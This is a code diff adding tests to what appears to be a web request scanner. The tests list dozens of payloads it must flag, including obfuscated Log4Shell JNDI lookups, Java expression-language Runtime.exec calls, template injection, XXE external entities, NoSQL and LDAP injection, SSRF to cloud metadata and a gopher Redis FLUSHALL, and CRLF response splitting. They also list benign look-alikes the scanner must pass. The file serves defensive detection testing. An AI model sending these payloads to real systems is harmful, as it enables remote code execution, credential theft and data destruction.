@@ -17,7 +17,8 @@ fn route() -> RouteInspect {
 
 /// The rule that `raw`, as a part of `kind`, trips.
 fn hit(r: &RouteInspect, kind: Kind, raw: &str) -> Option<&'static str> {
-    r.scan(raw.as_bytes(), kind, IN_OTHER).map(|r| r.id)
+    r.scan(raw.as_bytes(), kind, rules::IN_FIELD | rules::IN_TEXT)
+        .map(|r| r.id)
 }
 
 fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
@@ -298,6 +299,120 @@ fn command_injection() {
         (Form, "$(who''ami)", "cmdi-002"),
         (Form, "`wh''oami`", "cmdi-003"),
     ]);
+}
+
+#[test]
+fn server_side_injection() {
+    expect(&[
+        // Log4Shell, plain and obfuscated, also percent-encoded and in a header.
+        (Header, "${jndi:ldap://198.18.0.1:1389/a}", "rce-001"),
+        (Header, "${${lower:j}ndi:ldap://x/a}", "rce-001"),
+        (Header, "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "rce-001"),
+        (Header, "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}", "rce-001"),
+        (Form, "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "rce-001"),
+        (Json, r#"{"name":"${jndi:dns://x}"}"#, "rce-001"),
+        (Form, "x=jndi:ldap://198.18.0.1/a", "rce-001"),
+        // Java expression languages.
+        (Form, "${T(java.lang.Runtime).getRuntime().exec('id')}", "rce-002"),
+        (Form, "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "rce-002"),
+        (Json, r#"{"q":"new java.lang.ProcessBuilder('id').start()"}"#, "rce-002"),
+        (Form, "''.getClass().forName('java.lang.Runtime')", "rce-002"),
+        // Templates.
+        (Form, "{{7*7}}", "ssti-001"),
+        (Form, "${7*7}", "ssti-001"),
+        (Form, "#{7*7}", "ssti-001"),
+        (Form, "<%= 7 * 7 %>", "ssti-001"),
+        (Form, "%7B%7B7*7%7D%7D", "ssti-001"),
+        (Json, r#"{"t":"{{''.__class__.__mro__[1].__subclasses__()}}"}"#, "ssti-001"),
+        (Form, "{{config.items()}}", "ssti-001"),
+        (Form, "{{request|attr('application')}}", "ssti-001"),
+        (Form, "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "ssti-001"),
+        (Form, "{{constructor.constructor('x')()}}", "ssti-001"),
+        // XML external entities.
+        (
+            Text,
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://198.18.0.1/x\">]><r>&x;</r>",
+            "xxe-001",
+        ),
+        (Text, "<!DOCTYPE r SYSTEM \"http://198.18.0.1/x.dtd\"><r/>", "xxe-001"),
+        (Text, "<!ENTITY % p PUBLIC \"x\" \"http://198.18.0.1/p.dtd\">", "xxe-001"),
+        (Text, "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></r>", "xxe-001"),
+        // NoSQL operators, as query names, JSON keys and in text.
+        (Form, "username[$ne]", "nosqli-001"),
+        (Form, "password[%24gt]", "nosqli-001"),
+        (Json, r#"{"username":{"$ne":null},"password":{"$ne":null}}"#, "nosqli-001"),
+        (Json, r#"{"$where":"this.a == 1"}"#, "nosqli-001"),
+        (Text, r#"{"user": {"$regex": "^a"}}"#, "nosqli-001"),
+        (Form, "'; return true; var x='", "nosqli-001"),
+        (Form, "db.users.find()", "nosqli-001"),
+        // Cloud metadata and odd schemes.
+        (Form, "http://169.254.169.254/latest/meta-data/iam/", "ssrf-001"),
+        (Form, "http://2852039166/", "ssrf-001"),
+        (Form, "http://0xa9fea9fe/", "ssrf-001"),
+        (Form, "http://metadata.google.internal/computeMetadata/v1/", "ssrf-001"),
+        (Form, "http://[fd00:ec2::254]/", "ssrf-001"),
+        (Form, "gopher://127.0.0.1:6379/_FLUSHALL", "ssrf-001"),
+        // Response splitting, in fields.
+        (Form, "x%0d%0aSet-Cookie:%20admin=1", "crlf-001"),
+        (Path, "/r%0d%0aLocation:%20http://198.18.0.1/", "crlf-001"),
+        (Header, "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "crlf-001"),
+        (Form, "x%0aHTTP/1.1%20200%20OK", "crlf-001"),
+        // Server-side includes and LDAP filters.
+        (Form, "<!--#exec cmd=\"id\" -->", "ssi-001"),
+        (Form, "<!--#include virtual=\"/x.shtml\"-->", "ssi-001"),
+        (Form, "*)(uid=*))(|(uid=*", "ldapi-001"),
+        (Form, "admin)(&)", "ldapi-001"),
+        (Form, "x)(|(objectClass=*)", "ldapi-001"),
+    ]);
+}
+
+#[test]
+fn server_side_look_alikes_pass() {
+    benign(&[
+        "Price: ${price}",
+        "Hello ${name}, your order ${order.id} shipped",
+        "`${a} and ${b}`",
+        "{{ user.name }}",
+        "{{#each items}}{{this}}{{/each}}",
+        "{% if user %}Hi{% endif %}",
+        "#{name}",
+        "7*7=49",
+        "{{7}}",
+        "$10 or $20",
+        "$in the money",
+        "cost: $ne",
+        "<!DOCTYPE html>",
+        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
+        "<!-- a comment -->",
+        "<!-- #1 item -->",
+        "java.lang.String cannot be cast to java.lang.Integer",
+        "at java.lang.Thread.run(Thread.java:750)",
+        "f(x)(y)",
+        "(a)(b)",
+        "see (1)(2)",
+        "192.168.1.254",
+        "169.254.1.1",
+        "https://docs.example.com/latest/guide",
+        "Location: Room 4",
+        "sftp://backup.example.com/data",
+        "ldap://ldap.example.com/dc=example,dc=com",
+        "The quick brown fox\nContent is king",
+        "mongodb://db.example.com:27017",
+        "use the $regex operator with care",
+        "T(n) = O(n log n)",
+        "Runtime: 2h 15m",
+    ]);
+    // A text body may carry lines that look like headers: response splitting is a field's.
+    let r = route();
+    let text = "Subject: hi\nContent-Type: text/plain\nLocation: http://example.com/\n\nbody";
+    assert_eq!(
+        r.scan(text.as_bytes(), Text, rules::IN_TEXT).map(|r| r.id),
+        None
+    );
+    assert_eq!(
+        r.scan(text.as_bytes(), Form, rules::IN_FIELD).map(|r| r.id),
+        Some("crlf-001")
+    );
 }
 
 #[test]
